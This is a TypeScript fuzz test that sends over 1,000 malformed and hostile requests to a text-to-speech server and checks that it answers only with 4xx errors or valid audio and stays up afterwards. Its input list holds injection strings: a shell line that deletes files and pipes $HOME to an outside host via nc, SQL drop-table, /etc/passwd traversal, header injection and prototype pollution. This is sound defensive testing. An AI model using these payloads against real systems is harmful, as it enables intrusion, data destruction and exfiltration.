// Property-based fuzzing: over 1,000 malformed or hostile requests get 4xx envelopes (or audio,
// when the request is in fact valid), never a 5xx, and the server still answers afterwards.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { startServer, type TestServer } from './helpers.js';

let t: TestServer;
before(async () => { t = await startServer({ workers: 2, maxQueue: 1000 }); });
after(() => t.close());

const hostileText = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom('<speak><prosody rate="x-fast">hi</prosody></speak>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>',
    '$(rm -rf /); `id`; echo $HOME | nc 1.2.3.4 80', "'; DROP TABLE voices; --", '-voice kal -o /etc/passwd', '../../../../etc/passwd',
    '\u0000\u0001\u0007\u001b[31m\u202e\ufeff', '\ud800 lone surrogate \udfff', '%s%s%s%n', '{{7*7}} ${7*7}', 'a\r\nX-Injected: 1'),
  fc.constantFrom('a'.repeat(4097), 'b'.repeat(20_000), '😀'.repeat(4100)),
);
const anyJson = fc.anything({ maxDepth: 3, withBigInt: false, withDate: false, withMap: false, withSet: false, withTypedArray: false });
const field = (valid: fc.Arbitrary<unknown>) => fc.oneof({ weight: 3, arbitrary: valid }, { weight: 1, arbitrary: anyJson }, { weight: 1, arbitrary: hostileText });

// Valid-looking bodies go to eSpeak NG and to flite, the default engine (tts-1 with no neural
// models installed), whose WASI crash under many calls is fixed (see BENCHMARKS.md).
const body = fc.record({
  model: field(fc.constantFrom('espeak', 'espeak', 'tts-1', 'flite', 'tts-9', '')),
  input: field(hostileText),
  voice: field(fc.constantFrom('en-us', 'de', { id: 'en-us' }, 'alloy', 'kal16', { id: 'slt' }, 'darth', { id: 7 })),
  response_format: field(fc.constantFrom('pcm', 'wav', 'mp3', 'flac', 'opus', 'MP3', null)),
  speed: field(fc.oneof(fc.double({ min: 0.2, max: 4.5 }), fc.constantFrom(Number.NaN, Infinity, -1, '1', null))),
  stream_format: field(fc.constantFrom('audio', 'sse', 'chunks', null)),
  instructions: field(fc.string({ maxLength: 20 })),
}, { requiredKeys: [] });

/** A raw body: JSON of a hostile object, or bytes that are not JSON at all. */
const rawBody = fc.oneof(
  { weight: 6, arbitrary: body.map((b) => Buffer.from(JSON.stringify(b) ?? 'null')) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.concat([Buffer.from('{"model":"espeak","voice":"en-us","input":"'), Buffer.from(bytes), Buffer.from('"}')])) },
  { weight: 1, arbitrary: fc.nat({ max: 20_000 }).map((n) => Buffer.from(`{"model":"espeak","voice":"en-us","input":"hi","x":${'['.repeat(n)}${']'.repeat(n)}}`)) },
  { weight: 1, arbitrary: fc.constantFrom('', 'null', '[]', '"str"', '42', '{"__proto__":{"x":1},"model":"espeak"}', '{"constructor":{"prototype":{}}}', '{', '\u0000').map((s) => Buffer.from(s)) },
);
const contentType = fc.constantFrom('application/json', 'application/json; charset=utf-8', 'text/plain', 'application/x-www-form-urlencoded', 'application/octet-stream');

const seen = { total: 0, ok: 0, status: new Map<number, number>() };

async function fire(payload: Buffer, type: string) {
  const res = await fetch(`${t.url}/v1/audio/speech`, { method: 'POST', headers: { 'content-type': type }, body: new Uint8Array(payload) });
  seen.total++;
  seen.status.set(res.status, (seen.status.get(res.status) ?? 0) + 1);
  const bytes = Buffer.from(await res.arrayBuffer());
  if (res.status === 200) {
    seen.ok++;
    assert.match(res.headers.get('content-type') ?? '', /^(audio\/|text\/event-stream)/);
    return;
  }
  assert.ok(res.status >= 400 && res.status < 500, `status ${res.status} for ${payload.toString('utf8', 0, 300)}: ${bytes.toString()}`);
  const envelope = JSON.parse(bytes.toString());
  assert.deepEqual(Object.keys(envelope.error), ['message', 'type', 'param', 'code']);
  assert.equal(typeof envelope.error.message, 'string');
}

test('1,000+ hostile requests: only 4xx envelopes or real audio, no 5xx', { timeout: 240_000 }, async (ctx) => {
  await fc.assert(fc.asyncProperty(fc.array(fc.tuple(rawBody, contentType), { minLength: 4, maxLength: 4 }), async (batch) => {
    await Promise.all(batch.map(([payload, type]) => fire(payload, type)));
  }), { numRuns: 260, endOnFailure: true });
  assert.ok(seen.total >= 1000, `${seen.total} requests`);
  ctx.diagnostic(`${seen.total} requests; status counts ${JSON.stringify(Object.fromEntries(seen.status))}`);
  assert.ok(seen.ok > 0, 'some generated requests were valid and got audio');
  const health = await fetch(`${t.url}/health`);
  assert.equal(health.status, 200);
  const res = await t.client.audio.speech.create({ model: 'espeak', voice: 'en-us', input: 'Still standing.', response_format: 'wav' });
  assert.equal(res.status, 200);
  assert.ok((await res.arrayBuffer()).byteLength > 44);
  assert.deepEqual(t.server.services.pool.load().reduce((a, b) => a + b, 0), 0);
});
